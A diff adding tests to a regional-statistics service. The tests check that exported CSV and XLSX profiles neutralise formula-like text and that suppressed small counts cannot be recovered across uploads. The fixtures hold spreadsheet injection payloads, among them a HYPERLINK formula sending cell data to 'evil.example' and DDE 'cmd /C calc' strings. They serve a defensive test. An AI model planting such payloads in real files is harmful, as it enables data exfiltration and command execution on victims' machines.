@@ -123,6 +123,54 @@ def test_formulas_are_refused_in_uploads_and_written_as_text_in_every_export(ser
     assert "<f>" not in zipfile.ZipFile(io.BytesIO(exported.content)).read("xl/worksheets/sheet1.xml").decode()
 
 
+PROFILE_TEXTS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1",
+                 "\r=1+1"]
+
+
+def test_a_profile_download_writes_formula_like_text_as_text(built_copy, tmp_path):
+    """The profile's text cells (catalogue names and units, the peer group's name) in CSV and XLSX, planted in a snapshot."""
+    import csv as csv_module
+
+    import duckdb
+
+    connection = duckdb.connect(str(built_copy))
+    try:
+        indicators = [row[0] for row in connection.execute(
+            "SELECT DISTINCT indicator_id FROM marts.indicator_value WHERE ags = '09162000' AND level = 'kreis' "
+            "AND value IS NOT NULL ORDER BY indicator_id LIMIT ?", [len(PROFILE_TEXTS)]).fetchall()]
+        assert len(indicators) == len(PROFILE_TEXTS)
+        for indicator, text in zip(indicators, PROFILE_TEXTS):
+            connection.execute("UPDATE marts.indicator_catalog SET name_en = ? WHERE indicator_id = ?", [text, indicator])
+        connection.execute("UPDATE marts.indicator_catalog SET unit = '=cmd|'' /C calc''!A0' WHERE indicator_id = ?",
+                           [indicators[0]])
+        connection.execute("UPDATE marts.indicator_comparison SET group_name = '@cmd|'' /C calc''!A0' WHERE is_default")
+    finally:
+        connection.close()
+    expected = {i: "'" + text for i, text in zip(indicators, PROFILE_TEXTS)}
+
+    with running_service(tmp_path / "formulas", built_copy, "formulas", counties=(), IMON_SQL_WORKERS="1") as running:
+        with running.client("state") as state:
+            csv = state.get("/api/regions/09162/profile", params={"format": "csv"})
+            xlsx = state.get("/api/regions/09162/profile", params={"format": "xlsx"})
+    assert csv.status_code == 200 and xlsx.status_code == 200
+
+    rows = list(csv_module.DictReader(io.StringIO(csv.content.decode("utf-8"), newline="")))
+    names = {row["indicator_id"]: row["name_en"] for row in rows if row["indicator_id"] in expected}
+    assert names == expected
+    assert {row["unit"] for row in rows if row["indicator_id"] == indicators[0]} == {"'=cmd|' /C calc'!A0"}
+    groups = {row["peer_group"] for row in rows if row["peer_group"]}
+    assert groups == {"'@cmd|' /C calc'!A0"}
+
+    sheet = zipfile.ZipFile(io.BytesIO(xlsx.content)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
+    cells = pd.read_excel(io.BytesIO(xlsx.content), dtype=str, keep_default_na=False)
+    names = dict(zip(cells["indicator_id"], cells["name_en"]))
+    # Excel's XML keeps the tab; a carriage return comes back as the line feed XML normalises it to
+    assert {i: names[i].replace("\n", "\r") for i in expected} == expected
+    assert set(cells.loc[cells["indicator_id"] == indicators[0], "unit"]) == {"'=cmd|' /C calc'!A0"}
+    assert set(cells["peer_group"]) - {""} == {"'@cmd|' /C calc'!A0"}
+
+
 # --- High 3: disclosure -----------------------------------------------------------------------------------------
 
 HELPERS = ("ags,period,variable,value\n"
@@ -158,6 +206,49 @@ def test_nothing_exact_about_a_suppressed_cell_reaches_the_state_office(service)
     assert totals == [[None, 10]]
     shared = pd.read_csv(io.StringIO(service.state.get("/api/uploads/09187/helpers", params={"format": "csv"}).text))
     assert shared["value"].isna().tolist() == [True, True, False, False, False]
+
+
+def state_rows(service, table: str) -> list[list]:
+    return service.state.post("/api/sql", json={"sql": f"SELECT ags, period, value, value_flag FROM county_09187.{table} "
+                                                       "WHERE variable = 'staff' ORDER BY line_number"}).json()["rows"]
+
+
+def test_totals_in_one_upload_and_parts_in_another_do_not_give_a_suppressed_count_away(service):
+    # a Kreis total (12) alone in one upload: nothing to hide yet, the state office sees it
+    totals = "ags,period,variable,value\n09187,2022,staff,12\n09187,2021,staff,30\n"
+    assert upload(service.rosenheim, "staff_totals", totals).json()["suppressed_for_others"] == 0
+    assert state_rows(service, "staff_totals") == [["09187000", 2022, 12, None], ["09187000", 2021, 30, None]]
+    # its parts in another upload, one of them below the threshold: 12 - 10 would give the 2 away ...
+    parts = "ags,period,variable,value\n09187117,2022,staff,2\n09187118,2022,staff,10\n09187117,2021,staff,30\n"
+    assert upload(service.rosenheim, "staff_parts", parts).json()["suppressed_for_others"] == 1
+    # ... so the earlier upload's total of that year and variable is hidden from now on (2021 stays shown)
+    assert state_rows(service, "staff_totals") == [["09187000", 2022, None, "suppressed_complementary"],
+                                                   ["09187000", 2021, 30, None]]
+    difference = service.state.post("/api/sql", json={"sql": (
+        "SELECT (SELECT sum(value) FROM county_09187.staff_totals WHERE period = 2022) - "
+        "(SELECT sum(value) FROM county_09187.staff_parts WHERE period = 2022) AS difference")}).json()["rows"]
+    assert difference == [[None]]
+    # the state office's listing per upload carries counts of rows and hidden cells, no sum of values
+    listed = {u["table"]: u for u in service.state.get("/api/uploads").json()["uploads"] if u["county"] == "09187"}
+    assert listed["staff_totals"]["suppressed_for_others"] == 1 and listed["staff_parts"]["suppressed_for_others"] == 1
+    assert set(listed["staff_totals"]) == {"county", "table", "rows", "suppressed_for_others", "file_name",
+                                           "uploaded_at", "upload_id"}
+    # the other order: parts first, then a total of the same year and variable arrives hidden
+    assert upload(service.rosenheim, "staff_parts_2020", "ags,period,variable,value\n09187117,2020,staff,1\n"
+                                                         "09187118,2020,staff,8\n").status_code == 201
+    late = upload(service.rosenheim, "staff_totals_2020", "ags,period,variable,value\n09187,2020,staff,9\n")
+    assert late.json()["suppressed_for_others"] == 1
+    assert state_rows(service, "staff_totals_2020") == [["09187000", 2020, None, "suppressed_complementary"]]
+    # no sum over every table the state office can read reaches a hidden count
+    sums = service.state.post("/api/sql", json={"sql": (
+        "SELECT period, sum(value) FILTER (level = 'kreis') AS kreis, sum(value) FILTER (level = 'gemeinde') AS gemeinden "
+        "FROM (SELECT * FROM county_09187.staff_totals UNION ALL SELECT * FROM county_09187.staff_parts UNION ALL "
+        "SELECT * FROM county_09187.staff_parts_2020 UNION ALL SELECT * FROM county_09187.staff_totals_2020) "
+        "GROUP BY period ORDER BY period")}).json()["rows"]
+    assert sums == [[2020, None, 8], [2021, 30, 30], [2022, None, 10]]
+    # the county itself still sees its totals as delivered
+    own = service.rosenheim.post("/api/sql", json={"sql": "SELECT value FROM county_09187.staff_totals ORDER BY line_number"})
+    assert own.json()["rows"] == [[12], [30]]
 
 
 # --- Medium 4: answer size ----------------------------------------------------------------------------------------
